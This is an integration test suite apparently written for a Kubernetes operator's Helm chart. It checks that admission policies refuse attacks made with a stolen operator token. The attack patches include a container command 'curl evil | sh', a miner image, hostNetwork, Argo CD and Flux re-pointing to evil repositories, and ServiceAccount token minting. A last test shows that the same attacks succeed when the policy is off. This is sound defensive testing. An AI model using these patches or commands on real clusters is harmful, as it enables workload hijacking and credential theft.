// Issue 39: what the operator's own token may do with its grants on workloads, HelmReleases and
// Applications. The operator chart installed by real Helm on the real API server (its admission
// policies as the chart renders them) beside site workloads, an unrelated Deployment, and the real
// Flux and Argo CD CRDs, another team's Secret and ConfigMap. Each attack is made as whoever stole the token would: a TokenRequest token
// of the chart's ServiceAccount against the API server. The operator's own writes, made by its
// production code with that token, get through; the same attack without the policy does too.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { KubeApiError, KubeClient, resourcePath } from '../../src/runtime/kube-client.ts';
import { argoTarget } from '../../src/targets/argo-application.ts';
import { fluxTarget } from '../../src/targets/flux-helm-release.ts';
import { VERSION_ANNOTATION } from '../../src/targets/values-secret.ts';
import { RENEWED_AT_ANNOTATION, rollWorkload, VALUES_SECRET_LABEL } from '../../src/targets/workloads.ts';
import {
  createNamespace,
  eventually,
  installCrds,
  kubeconfig,
  kubectl,
  kubectlOk,
  tokenKubeconfig,
} from '../support/cluster/kube.ts';
import { applyRelease, getRelease } from '../support/cluster/resources.ts';
import { helm, helmInstall, OPERATOR_CHART_DIR } from '../support/tools/chart.ts';
import { applyObjects, example, installGitopsCrd, type KubeDoc } from '../support/tools/gitops.ts';

const RELEASE = 'guard';
const FULLNAME = `${RELEASE}-static-export-operator`;
const ROLLOUT_LABEL = 'staticexport.dev/rollout';
const V1 = `sha256-${'1'.repeat(64)}`;
const V2 = `sha256-${'2'.repeat(64)}`;
const EVIL = 'registry.example/miner:latest';

interface Workload {
  metadata: { generation: number; labels?: Record<string, string> };
  spec: {
    replicas: number;
    template: {
      metadata: { annotations?: Record<string, string> };
      spec: { serviceAccountName?: string; containers: { image: string; command?: string[] }[] };
    };
  };
}
interface Source {
  repoURL: string;
  chart?: string;
  path?: string;
  helm?: { parameters?: { name: string; value: string }[]; valuesObject?: Record<string, unknown> };
}
interface Application {
  spec: { source?: Source; sources?: Source[]; destination: { namespace: string }; project: string };
  operation?: unknown;
}
interface HelmRelease {
  metadata: { annotations?: Record<string, string> };
  spec: { chart: { spec: { chart: string } }; serviceAccountName?: string; values: Record<string, unknown> };
}

let opNs: string;
let ns: string;
let admin: KubeClient;
/** Authenticates with a TokenRequest token of the chart's ServiceAccount: the operator's own token. */
let operator: KubeClient;
const namespaces: string[] = [];

const deployments = (name: string) => resourcePath('apps/v1', 'deployments', ns, name);
const statefulsets = (name: string) => resourcePath('apps/v1', 'statefulsets', ns, name);
const helmReleases = (name: string) => resourcePath('helm.toolkit.fluxcd.io/v2', 'helmreleases', ns, name);
const applications = (name: string) => resourcePath('argoproj.io/v1alpha1', 'applications', ns, name);
const policy = (suffix: string) => `${opNs}-${FULLNAME}-${suffix}`;

/** A PATCH as `client`: the object stored, or the error when it was refused. */
async function patch<T>(
  client: KubeClient,
  path: string,
  body: unknown,
  contentType = 'application/merge-patch+json',
): Promise<T | KubeApiError> {
  try {
    return await client.request<T>('PATCH', path, {
      body,
      contentType,
      query: {
        fieldManager: 'static-export-operator',
        ...(contentType.includes('apply') ? { force: true } : {}),
      },
    });
  } catch (e) {
    if (e instanceof KubeApiError) return e;
    throw e;
  }
}

/** Refused by the chart's admission policy `suffix` (RBAC allows the patch), for `rule`. */
function expectRefused(answer: unknown, suffix: string, rule: RegExp): void {
  expect(answer).toBeInstanceOf(KubeApiError);
  const e = answer as KubeApiError;
  expect(e.status).toBe(403);
  expect(e.message).toContain(`ValidatingAdmissionPolicy '${policy(suffix)}'`);
  expect(e.message).toMatch(rule);
}

const UNLABELLED = /rolls only workloads labelled staticexport\.dev\/values-secret/;
const ANNOTATIONS_ONLY = /may change only the pod template annotations staticexport\.dev\/version/;
const NO_METADATA = /may not change a workload's labels, annotations, owners or other metadata/;
const CONTENT_VERSION = /may set staticexport\.dev\/version to a content version/;
const REQUESTED_AT_ONLY = /may change only a HelmRelease's reconcile\.fluxcd\.io\/requestedAt annotation/;
const NO_HR_SPEC = /may not change a HelmRelease's spec/;
const VERSION_PARAMETER_ONLY = /may change only the staticExport\.version Helm parameter/;
const NO_OPERATION = /may not start an Application operation/;
const OWNED_ONLY = /may create and change only Secrets and ConfigMaps that a StaticExportRelease\s+controls/;

function workload(kind: 'Deployment' | 'StatefulSet', name: string, labels: Record<string, string> = {}) {
  const selector = { 'app.kubernetes.io/name': name };
  return {
    apiVersion: 'apps/v1',
    kind,
    metadata: { name, namespace: ns, labels },
    spec: {
      replicas: 1,
      ...(kind === 'StatefulSet' ? { serviceName: name } : {}),
      selector: { matchLabels: selector },
      template: {
        metadata: { labels: selector, annotations: { 'example.com/team': 'docs' } },
        spec: { containers: [{ name: 'web', image: 'registry.example/site:1' }] },
      },
    },
  };
}

/** The Argo CD example, its site source reading the Secret `<name>-values`; after `sources` if given. */
function application(name: string, sources?: Source[]): KubeDoc {
  const [app] = example('argocd/application.yaml', { docs: ns, argocd: ns }) as [KubeDoc];
  const { source, ...spec } = app.spec as { source: Source };
  const site = { ...source, helm: { valuesObject: { staticExport: { existingSecret: `${name}-values` } } } };
  return {
    ...app,
    metadata: { ...app.metadata, name },
    spec: { ...spec, ...(sources ? { sources: [...sources, site] } : { source: site }) },
  };
}

const token = async (namespace: string, serviceAccount = FULLNAME) =>
  KubeClient.create(
    tokenKubeconfig(
      (await kubectlOk(['create', 'token', serviceAccount, '-n', namespace, '--duration=1h'])).trim(),
    ),
  );

beforeAll(async () => {
  await Promise.all([installCrds(), installGitopsCrd('helmRelease'), installGitopsCrd('application')]);
  admin = await KubeClient.create(kubeconfig());
  opNs = await createNamespace('opadm-system');
  ns = await createNamespace('opadm-site');
  namespaces.push(opNs, ns);
  const installed = await helmInstall('helm4', {
    release: RELEASE,
    chart: OPERATOR_CHART_DIR,
    namespace: opNs,
    values: { crds: { enabled: false }, operator: { apiBaseUrl: 'https://api.example.com' } },
  });
  expect(installed.code, installed.stderr).toBe(0);
  await applyObjects([
    workload('Deployment', 'site', { [VALUES_SECRET_LABEL]: 'site-values' }),
    workload('StatefulSet', 'cache', { [ROLLOUT_LABEL]: 'allowed' }),
    // Another team's workload in the same namespace, and one whose label says something else.
    workload('Deployment', 'database'),
    workload('Deployment', 'api', { [ROLLOUT_LABEL]: 'no' }),
    ...example('flux/helmrelease.yaml', { docs: ns }),
    application('argo'),
    // Another team's Secret and ConfigMap, and a ServiceAccount whose token an attacker would mint.
    {
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'database', namespace: ns },
      stringData: { password: 'x' },
    },
    {
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: 'app-config', namespace: ns },
      data: { mode: 'safe' },
    },
    { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'deployer', namespace: ns } },
    application('multi', [
      {
        repoURL: 'https://charts.example/infra',
        chart: 'network-policies',
        helm: { valuesObject: { a: 1 } },
      },
    ] as Source[]),
  ]);
  operator = await token(opNs);
  // The policies take effect a moment after they are created: until each refuses a probe.
  await eventually('the admission policies in effect', async () => {
    const probes = await Promise.all([
      patch(operator, deployments('database'), { metadata: { labels: { probe: '1' } } }),
      patch(operator, helmReleases('docs'), { metadata: { labels: { probe: '1' } } }),
      patch(operator, applications('argo'), { metadata: { labels: { probe: '1' } } }),
      patch(operator, resourcePath('v1', 'configmaps', ns, 'app-config'), { data: { probe: '1' } }),
    ]);
    return probes.every((p) => p instanceof KubeApiError && p.message.includes('ValidatingAdmissionPolicy'));
  });
});

afterAll(async () => {
  // The policies are cluster-scoped: they go with the release, not with the namespace.
  if (opNs) await helm('helm4', ['uninstall', RELEASE, '--kubeconfig', kubeconfig(), '-n', opNs]);
  for (const n of namespaces) await kubectl(['delete', 'namespace', n, '--wait=false']);
  await Promise.all([admin?.close(), operator?.close()]);
});

describe("the operator's token, attacked with a TokenRequest token of the chart's ServiceAccount", () => {
  it("may not change an unrelated Deployment's image, not even with the operator's own apply", async () => {
    const image = { spec: { template: { spec: { containers: [{ name: 'web', image: EVIL }] } } } };
    expectRefused(
      await patch(operator, deployments('database'), image, 'application/strategic-merge-patch+json'),
      'workloads',
      UNLABELLED,
    );
    // Nor roll it: a workload no site label names is not the operator's.
    await expect(
      rollWorkload(operator, ns, { kind: 'Deployment', name: 'database' }, { [VERSION_ANNOTATION]: V1 }),
    ).rejects.toThrow(UNLABELLED);
    // A label with another value is no consent either.
    expectRefused(
      await patch(operator, deployments('api'), { spec: { replicas: 0 } }),
      'workloads',
      UNLABELLED,
    );
    const db = await admin.get<Workload>(deployments('database'));
    expect(db.spec.template.spec.containers[0]?.image).toBe('registry.example/site:1');
    expect(db.spec.template.metadata.annotations?.[VERSION_ANNOTATION]).toBeUndefined();
  });

  it("may not change a site Deployment's pod spec (image, serviceAccountName, command), replicas or metadata, not even beside the annotation", async () => {
    const roll = { [VERSION_ANNOTATION]: V1 };
    const attacks: object[] = [
      { spec: { template: { spec: { containers: [{ name: 'web', image: EVIL }] } } } },
      { spec: { template: { spec: { serviceAccountName: 'default' } } } },
      {
        spec: {
          template: { spec: { containers: [{ name: 'web', command: ['sh', '-c', 'curl evil | sh'] }] } },
        },
      },
      { spec: { template: { spec: { hostNetwork: true } } } },
      { spec: { replicas: 50 } },
      // Hidden beside the roll the operator makes.
      { spec: { template: { metadata: { annotations: roll }, spec: { serviceAccountName: 'default' } } } },
      // Other pod template labels or annotations (a new pod label joins another Service).
      { spec: { template: { metadata: { labels: { app: 'backend' } } } } },
      { spec: { template: { metadata: { annotations: { 'example.com/team': 'attacker' } } } } },
    ];
    for (const body of attacks) {
      expectRefused(
        await patch(operator, deployments('site'), body, 'application/strategic-merge-patch+json'),
        'workloads',
        ANNOTATIONS_ONLY,
      );
    }
    // Server-side apply as the operator's field manager, the image among the annotation.
    expectRefused(
      await patch(
        operator,
        deployments('site'),
        {
          apiVersion: 'apps/v1',
          kind: 'Deployment',
          metadata: { name: 'site' },
          spec: {
            template: {
              metadata: { annotations: roll },
              spec: { containers: [{ name: 'web', image: EVIL }] },
            },
          },
        },
        'application/apply-patch+yaml',
      ),
      'workloads',
      ANNOTATIONS_ONLY,
    );
    // Its own metadata: a label that drops it out of the site, an owner, a finalizer.
    for (const metadata of [
      { labels: { [VALUES_SECRET_LABEL]: null } },
      { annotations: { 'example.com/owned': 'yes' } },
      { finalizers: ['example.com/stuck'] },
    ]) {
      expectRefused(await patch(operator, deployments('site'), { metadata }), 'workloads', NO_METADATA);
    }
    // The operator's annotation with a value that is not a content version.
    expectRefused(
      await patch(operator, deployments('site'), {
        spec: { template: { metadata: { annotations: { [VERSION_ANNOTATION]: 'latest' } } } },
      }),
      'workloads',
      CONTENT_VERSION,
    );
    const site = await admin.get<Workload>(deployments('site'));
    expect(site.spec.template.spec.containers[0]).toEqual(
      expect.objectContaining({ image: 'registry.example/site:1' }),
    );
    expect(site.spec.template.spec.containers[0]?.command).toBeUndefined();
    expect(site.spec.template.spec.serviceAccountName ?? 'default').toBe('default');
    expect(site.spec.replicas).toBe(1);
    expect(site.metadata.generation).toBe(1);
  });

  it('may not re-point a Flux HelmRelease (its chart, values or ServiceAccount)', async () => {
    for (const spec of [
      { chart: { spec: { chart: './charts/evil' } } },
      { serviceAccountName: 'cluster-admin-sa' },
      { values: { image: { repository: EVIL } } },
      { valuesFrom: null },
      { suspend: true },
    ]) {
      expectRefused(await patch(operator, helmReleases('docs'), { spec }), 'flux-helmreleases', NO_HR_SPEC);
    }
    expectRefused(
      await patch(operator, helmReleases('docs'), {
        metadata: { annotations: { 'reconcile.fluxcd.io/forceAt': new Date().toISOString() } },
      }),
      'flux-helmreleases',
      REQUESTED_AT_ONLY,
    );
    const hr = await admin.get<HelmRelease>(helmReleases('docs'));
    expect(hr.spec.chart.spec.chart).toBe('./charts/static-export-site');
    expect(hr.spec.serviceAccountName).toBeUndefined();
  });

  it('may not re-point an Argo CD Application (repoURL, chart, destination, project, values) or start a sync', async () => {
    const before = await admin.get<Application>(applications('argo'));
    const site = before.spec.source as Source;
    const attacks: [string, object[]][] = [
      ['repoURL', [{ op: 'replace', path: '/spec/source/repoURL', value: 'https://git.example/evil' }]],
      ['path', [{ op: 'replace', path: '/spec/source/path', value: 'charts/evil' }]],
      ['destination', [{ op: 'replace', path: '/spec/destination/namespace', value: 'kube-system' }]],
      ['project', [{ op: 'replace', path: '/spec/project', value: 'admin' }]],
      ['values', [{ op: 'add', path: '/spec/source/helm/valuesObject/image', value: { repository: EVIL } }]],
      // Another parameter beside the version the operator sets.
      [
        'parameter',
        [
          {
            op: 'add',
            path: '/spec/source/helm/parameters',
            value: [
              { name: 'staticExport.version', value: V1, forceString: true },
              { name: 'image.repository', value: EVIL },
            ],
          },
        ],
      ],
      // The version parameter carrying more than a version.
      [
        'version value',
        [
          {
            op: 'add',
            path: '/spec/source/helm/parameters',
            value: [{ name: 'staticExport.version', value: `${V1},image.repository=${EVIL}` }],
          },
        ],
      ],
    ];
    for (const [what, body] of attacks) {
      const answer = await patch(operator, applications('argo'), body, 'application/json-patch+json');
      expect(answer, what).toBeInstanceOf(KubeApiError);
      expectRefused(answer, 'argo-applications', VERSION_PARAMETER_ONLY);
    }
    expectRefused(
      await patch(operator, applications('argo'), {
        operation: { sync: { revision: 'evil', source: { ...site, repoURL: 'https://git.example/evil' } } },
      }),
      'argo-applications',
      NO_OPERATION,
    );
    // A multi-source Application: another source re-pointed, and one added.
    expectRefused(
      await patch(
        operator,
        applications('multi'),
        [{ op: 'replace', path: '/spec/sources/0/repoURL', value: 'https://git.example/evil' }],
        'application/json-patch+json',
      ),
      'argo-applications',
      VERSION_PARAMETER_ONLY,
    );
    expectRefused(
      await patch(
        operator,
        applications('multi'),
        [{ op: 'add', path: '/spec/sources/-', value: { repoURL: 'https://git.example/evil', path: '.' } }],
        'application/json-patch+json',
      ),
      'argo-applications',
      /may not add or remove an Application's sources/,
    );
    expect(await admin.get<Application>(applications('argo'))).toEqual(before);
  });

  it("may not mint a ServiceAccount token, nor change another's Secret or ConfigMap", async () => {
    await applyRelease(ns, 'owner');
    const owner = await getRelease(ns, 'owner');
    const controlledBy = [
      {
        apiVersion: 'staticexport.dev/v1alpha1',
        kind: 'StaticExportRelease',
        name: 'owner',
        uid: owner.metadata?.uid,
        controller: true,
      },
    ];
    const create = async (body: object) => {
      try {
        return await operator.request('POST', resourcePath('v1', 'secrets', ns), { body });
      } catch (e) {
        if (e instanceof KubeApiError) return e;
        throw e;
      }
    };
    // The token controller would fill this Secret with a token of `deployer`, even claiming an owner.
    for (const metadata of [
      { name: 'minted', annotations: { 'kubernetes.io/service-account.name': 'deployer' } },
      {
        name: 'minted-owned',
        annotations: { 'kubernetes.io/service-account.name': 'deployer' },
        ownerReferences: controlledBy,
      },
    ]) {
      const answer = await create({ metadata, type: 'kubernetes.io/service-account-token' });
      expectRefused(
        answer,
        'secrets-configmaps',
        metadata.ownerReferences ? /Secrets of type Opaque only/ : OWNED_ONLY,
      );
    }
    expect((await kubectl(['get', 'secret', 'minted', '-n', ns])).code).not.toBe(0);
    expectRefused(
      await patch(operator, resourcePath('v1', 'secrets', ns, 'database'), {
        stringData: { password: 'mine' },
      }),
      'secrets-configmaps',
      OWNED_ONLY,
    );
    expectRefused(
      await patch(operator, resourcePath('v1', 'configmaps', ns, 'app-config'), { data: { mode: 'open' } }),
      'secrets-configmaps',
      OWNED_ONLY,
    );
    // Nor make another's its own by naming an owner: the policy refuses it where the
    // OwnerReferencesPermissionEnforcement plugin (this control plane's; it runs first) does not.
    const takeover = await patch(operator, resourcePath('v1', 'configmaps', ns, 'app-config'), {
      metadata: { ownerReferences: controlledBy },
      data: { mode: 'open' },
    });
    expect(takeover).toBeInstanceOf(KubeApiError);
    expect((takeover as KubeApiError).status).toBe(403);
    expect((takeover as KubeApiError).message).toMatch(
      new RegExp(`${OWNED_ONLY.source}|cannot set an ownerRef on a resource you can't delete`),
    );
    expect(await kubectlOk(['get', 'configmap', 'app-config', '-n', ns, '-o', 'jsonpath={.data.mode}'])).toBe(
      'safe',
    );
  });

  it("the operator's own writes get through: rolls (SSA of the annotations), the HelmRelease's requestedAt, the Application's version parameter", async () => {
    // Rolls, as the rollout code makes them: a labelled Deployment, a StatefulSet labelled for
    // spec.rollout.workloadRefs; a link renewal; renewed-at dropped again (onLinkRenewal None).
    const renewedAt = new Date().toISOString();
    expect(
      await rollWorkload(operator, ns, { kind: 'Deployment', name: 'site' }, { [VERSION_ANNOTATION]: V1 }),
    ).toBe(2);
    expect(
      await rollWorkload(
        operator,
        ns,
        { kind: 'Deployment', name: 'site' },
        { [VERSION_ANNOTATION]: V1, [RENEWED_AT_ANNOTATION]: renewedAt },
      ),
    ).toBe(3);
    expect(
      await rollWorkload(operator, ns, { kind: 'Deployment', name: 'site' }, { [VERSION_ANNOTATION]: V2 }),
    ).toBe(4);
    await rollWorkload(operator, ns, { kind: 'StatefulSet', name: 'cache' }, { [VERSION_ANNOTATION]: V2 });
    const site = await admin.get<Workload>(deployments('site'));
    expect(site.spec.template.metadata.annotations).toEqual({
      'example.com/team': 'docs',
      [VERSION_ANNOTATION]: V2,
    });
    const cache = await admin.get<Workload>(statefulsets('cache'));
    expect(cache.spec.template.metadata.annotations?.[VERSION_ANNOTATION]).toBe(V2);

    // The Flux and Argo CD targets, as the reconciler writes them (the values Secret first).
    await applyRelease(ns, 'flux', {
      target: { fluxHelmRelease: { name: 'docs', secretName: 'docs-values', configMapName: 'docs-version' } },
    });
    await applyRelease(ns, 'argo', { target: { argoApplication: { name: 'argo' } } });
    await applyRelease(ns, 'multi', { target: { argoApplication: { name: 'multi' } } });
    const values = { bundleUrl: 'https://bundles.example/site.tar.gz?sig=secret', version: V1 };
    const now = new Date();
    const targetOf = async (name: string) => ({ kube: operator, release: await getRelease(ns, name) });
    const flux = fluxTarget(await targetOf('flux'));
    expect(await flux?.problem()).toBeUndefined();
    expect(await flux?.write(values, now)).toBe(true);
    const hr = await admin.get<HelmRelease>(helmReleases('docs'));
    expect(hr.metadata.annotations?.['reconcile.fluxcd.io/requestedAt']).toBe(now.toISOString());
    expect(hr.spec.chart.spec.chart).toBe('./charts/static-export-site');

    for (const name of ['argo', 'multi']) {
      const argo = argoTarget(await targetOf(name));
      expect(await argo?.problem()).toBeUndefined();
      expect(await argo?.write(values, now)).toBe(true);
      expect(await argo?.write({ ...values, version: V2 }, now)).toBe(true);
      expect(await argo?.version()).toBe(V2);
    }
    // The multi-source Application's other source is as it was.
    const multi = await admin.get<Application>(applications('multi'));
    expect(multi.spec.sources?.[0]).toEqual({
      repoURL: 'https://charts.example/infra',
      chart: 'network-policies',
      helm: { valuesObject: { a: 1 } },
    });
    expect(multi.spec.sources?.[1]?.helm?.parameters).toEqual([
      { name: 'staticExport.version', value: V2, forceString: true },
    ]);
  });

  it("large objects stay within the policies' CEL cost budget: a 450 KB Deployment, an Application of 20 sources (600 KB)", async () => {
    const big = workload('Deployment', 'big', { [VALUES_SECRET_LABEL]: 'big-values' });
    big.spec.template.spec.containers = Array.from({ length: 20 }, (_, c) => ({
      name: `c${c}`,
      image: 'registry.example/site:1',
      env: Array.from({ length: 200 }, (_, i) => ({ name: `E${i}`, value: 'x'.repeat(100) })),
    }));
    const values = Object.fromEntries(Array.from({ length: 300 }, (_, j) => [`k${j}`, 'v'.repeat(100)]));
    const sources = Array.from({ length: 19 }, (_, i) => ({
      repoURL: `https://charts.example/r${i}`,
      path: '.',
      helm: { valuesObject: values },
    }));
    // Server-side: the client-side last-applied annotation would exceed its 256 KB limit.
    for (const o of [big, application('large', sources)])
      await kubectlOk(['apply', '--server-side', '-f', '-'], JSON.stringify(o));
    expect(
      await rollWorkload(operator, ns, { kind: 'Deployment', name: 'big' }, { [VERSION_ANNOTATION]: V1 }),
    ).toBe(2);
    await applyRelease(ns, 'large', { target: { argoApplication: { name: 'large' } } });
    const argo = argoTarget({ kube: operator, release: await getRelease(ns, 'large') });
    expect(await argo?.write({ bundleUrl: 'https://bundles.example/b', version: V1 }, new Date())).toBe(true);
    expect(await argo?.version()).toBe(V1);
  });
});

describe('without the policy (admissionPolicy.enabled false: the chart before it)', () => {
  let bareNs: string;
  let bare: KubeClient | undefined;
  // Another name: the ClusterRole is cluster-scoped.
  const BARE = 'bare';
  afterAll(async () => {
    if (bareNs) await helm('helm4', ['uninstall', BARE, '--kubeconfig', kubeconfig(), '-n', bareNs]);
    await bare?.close();
  });

  it("the same token changes an unrelated Deployment's image and re-points an Application", async () => {
    bareNs = await createNamespace('opadm-bare');
    namespaces.push(bareNs);
    const installed = await helmInstall('helm4', {
      release: BARE,
      chart: OPERATOR_CHART_DIR,
      namespace: bareNs,
      values: {
        crds: { enabled: false },
        operator: { apiBaseUrl: 'https://api.example.com' },
        admissionPolicy: { enabled: false },
      },
    });
    expect(installed.code, installed.stderr).toBe(0);
    bare = await token(bareNs, `${BARE}-static-export-operator`);
    const changed = await patch<Workload>(
      bare,
      deployments('database'),
      { spec: { template: { spec: { containers: [{ name: 'web', image: EVIL }] } } } },
      'application/strategic-merge-patch+json',
    );
    expect(changed).not.toBeInstanceOf(KubeApiError);
    expect((changed as Workload).spec.template.spec.containers[0]?.image).toBe(EVIL);
    const repointed = await patch<Application>(
      bare,
      applications('argo'),
      [{ op: 'replace', path: '/spec/source/repoURL', value: 'https://git.example/evil' }],
      'application/json-patch+json',
    );
    expect((repointed as Application).spec.source?.repoURL).toBe('https://git.example/evil');
  });
});
